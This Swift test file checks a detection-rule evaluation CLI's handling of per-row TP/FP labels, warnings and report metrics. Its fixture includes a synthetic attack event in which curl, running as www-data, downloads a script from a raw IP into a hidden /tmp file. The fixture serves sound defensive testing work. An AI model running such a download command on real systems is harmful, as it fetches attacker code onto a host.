import Foundation
import StubTestSupport
import Testing

/// `row_labels:` — a case labels the rows of a rule's execution over its documents by their `BY` values.
@Suite(.serialized, .boundedResources) struct RowLabelsCommandTests {
    func fixture(_ path: String) -> String { (try? CLI.fixture(path).path) ?? "missing fixture \(path)" }

    /// One host, two curl destinations: a raw-IP download to /tmp (TP) and a health check (FP).
    static func caseFile(rowLabels: String) -> String {
        """
          - id: curl-two-destinations
            label: TP
            scenario: curl-mixed
            index: logs-endpoint.events.process-default
            documents:
              - "@timestamp": "2026-03-02T09:01:00.000Z"
                event: {category: [process], type: [start], action: exec}
                host: {id: web-01-id, name: web-01}
                user: {name: www-data}
                process: {name: curl, args: [curl, -s, "http://198.51.100.7:8080/x.sh", -o, /tmp/.x], parent: {executable: /usr/bin/bash}}
              - "@timestamp": "2026-03-02T09:02:00.000Z"
                event: {category: [process], type: [start], action: exec}
                host: {id: web-01-id, name: web-01}
                user: {name: www-data}
                process: {name: curl, args: [curl, -fsS, "https://status.corp.example.com/healthz"], parent: {executable: /usr/bin/bash}}
        \(rowLabels)
        """
    }

    func workspace(rowLabels: String) async throws -> URL {
        let directory = try CLI.workspace()
        let rule = try await CLI.run(["prompts", "import-rule", fixture("rules/current/command_and_control_curl_activity_llm_triage.toml"), "--id", "curl-rule"], in: directory)
        #expect(rule.status == 0, "\(rule.stderr)")
        try Self.caseFile(rowLabels: rowLabels).write(to: directory.appendingPathComponent("cases/row-labels.yaml"), atomically: true, encoding: .utf8)
        return directory
    }

    func labelsByRow(_ directory: URL) async throws -> [String] {
        let results = try await CLI.run(["results", "export", "--run", "1", "--format", "jsonl"], in: directory)
        return results.stdout.split(separator: "\n").compactMap { line -> String? in
            guard let object = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any],
                  let id = object["case_id"] as? String, let label = object["label"] as? String else { return nil }
            return "\(id) \(label) \(object["scenario"] as? String ?? "-")"
        }.sorted()
    }

    @Test func rowsTakeTheirOwnLabelsInResultsAndMetrics() async throws {
        let directory = try await workspace(rowLabels: """
                row_labels:
                  - match: {Esql.dest_host: status.corp.example.com}
                    label: FP
                    scenario: health-check
                    notes: the team's own status page
                  - match: {Esql.dest_host: 198.51.100.7, Esql.host_key: web-01-id}
                    label: TP
            """)
        let run = try await CLI.run(["run", "--prompt", "curl-rule@v1", "--model", "heuristic", "--scenario", "curl-mixed", "--quiet"], in: directory)
        #expect(run.status == 0, "\(run.stderr)")
        #expect(!run.stderr.contains("matches no row"), "\(run.stderr)")
        #expect(try await labelsByRow(directory) == [
            "curl-two-destinations[Esql.host_key=web-01-id, Esql.dest_host=198.51.100.7] TP curl-mixed",
            "curl-two-destinations[Esql.host_key=web-01-id, Esql.dest_host=status.corp.example.com] FP health-check",
        ])
        let report = try await CLI.run(["report", "--run", "1", "--format", "json,junit", "--out", "r"], in: directory)
        #expect(report.status == 0, "\(report.stderr)")
        let path = try #require(report.stdout.split(separator: "\n").first { $0.hasSuffix(".json") })
        let data = try Data(contentsOf: directory.appendingPathComponent(String(path)))
        let json = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
        let entry = try #require((json["results"] as? [[String: Any]])?.first)
        let summary = try #require(entry["summary"] as? [String: Any])
        #expect(summary["attacks"] as? Int == 1)
        #expect(summary["benign"] as? Int == 1)
        let metrics = try #require(entry["metrics"] as? [String: Any])
        let overall = try #require(metrics["overall"] as? [String: Any])
        let alert = try #require(overall["alert"] as? [String: Any])
        // The heuristic alerts on the raw-IP download and not on the health check: one TP, one TN.
        #expect(alert["tp"] as? Int == 1)
        #expect(alert["tn"] as? Int == 1)
        #expect(alert["fp"] as? Int == 0)
        #expect(alert["fn"] as? Int == 0)
        // The row's scenario is its own breakdown group.
        let byScenario = try #require(metrics["by_scenario"] as? [String: Any])
        #expect(Set(byScenario.keys) == ["curl-mixed", "health-check"])
        // The rule's economics over the case's documents (issue 12 item 4), in the report files: one execution
        // (one case), two rows judged, nothing cut; the fixture rule runs every 15m, so 96 executions × 2 calls a day.
        let economics = try #require((json["rule_economics"] as? [[String: Any]])?.first)
        #expect(economics["prompt"] as? String == "curl-rule@v1")
        #expect(economics["executions"] as? Int == 1)
        #expect(economics["rows_produced"] as? Int == 2)
        #expect(economics["rows_judged"] as? Int == 2)
        #expect(economics["cut_by_limit"] as? Int == 0)
        #expect(economics["cut_by_cap"] as? Int == 0)
        #expect(economics["not_judged"] as? Int == 0)
        #expect(economics["calls_per_day"] as? Double == 192)
        #expect(economics["error_rate"] as? Double == 0)
        #expect(economics["executions_lost_share"] as? Double == 0)
        let markdown = try await CLI.run(["report", "--run", "1", "--format", "md", "--out", "m"], in: directory)
        let markdownPath = try #require(markdown.stdout.split(separator: "\n").first { $0.hasSuffix(".md") })
        let text = try String(contentsOf: directory.appendingPathComponent(String(markdownPath)), encoding: .utf8)
        #expect(text.contains("## Rules over case documents"), "\(text)")
        #expect(text.contains("| curl-rule@<!-- -->v1 | heuristic | 1 | 2 | 2 | 0 / 0 | 0 | 0 | 192.0 |"), "\(text)")
        // JUnit judges each row by its own label: no failure (with the case's TP label the health check would be a missed attack).
        let junitPath = try #require(report.stdout.split(separator: "\n").first { $0.hasSuffix(".xml") })
        let junit = try String(contentsOf: directory.appendingPathComponent(String(junitPath)), encoding: .utf8)
        #expect(junit.contains("tests=\"2\" failures=\"0\""), "\(junit)")
    }

    @Test func anUnmatchedEntryIsAWarningAndTwoMatchingEntriesAreAnError() async throws {
        let unmatched = try await workspace(rowLabels: """
                row_labels:
                  - match: {Esql.dest_host: 203.0.113.9}
                    label: FP
            """)
        let run = try await CLI.run(["run", "--prompt", "curl-rule@v1", "--model", "heuristic", "--scenario", "curl-mixed", "--quiet"], in: unmatched)
        #expect(run.status == 0, "\(run.stderr)")
        #expect(run.stderr.contains("warning: case curl-two-destinations: row_labels[0] {Esql.dest_host: 203.0.113.9} matches no row"), "\(run.stderr)")
        // Unmatched rows take the case's label.
        #expect(try await labelsByRow(unmatched).allSatisfy { $0.contains("] TP curl-mixed") })

        let conflicting = try await workspace(rowLabels: """
                row_labels:
                  - match: {Esql.host_key: web-01-id}
                    label: FP
                  - match: {Esql.dest_host: 198.51.100.7}
                    label: TP
            """)
        let refused = try await CLI.run(["run", "--prompt", "curl-rule@v1", "--model", "heuristic", "--scenario", "curl-mixed", "--quiet"], in: conflicting)
        #expect(refused.status == 2, "\(refused.stderr)")
        #expect(refused.stderr.contains("case curl-two-destinations: row Esql.host_key=web-01-id, Esql.dest_host=198.51.100.7 is matched by row_labels[0] {Esql.host_key: web-01-id} and row_labels[1]"), "\(refused.stderr)")
    }

    @Test func aBadEntryIsAnErrorWithFileLineAndField() async throws {
        let directory = try await workspace(rowLabels: """
                row_labels:
                  - match: {Esql.dest_host: 198.51.100.7}
                    label: maybe
            """)
        let sync = try await CLI.run(["cases", "import", directory.appendingPathComponent("cases/row-labels.yaml").path], in: directory)
        #expect(sync.status == 2)
        #expect(sync.stderr.contains("row-labels.yaml:18:"), "\(sync.stderr)")
        #expect(sync.stderr.contains("cases[0].row_labels[0].label: must be TP or FP, got \"maybe\""), "\(sync.stderr)")
    }
}
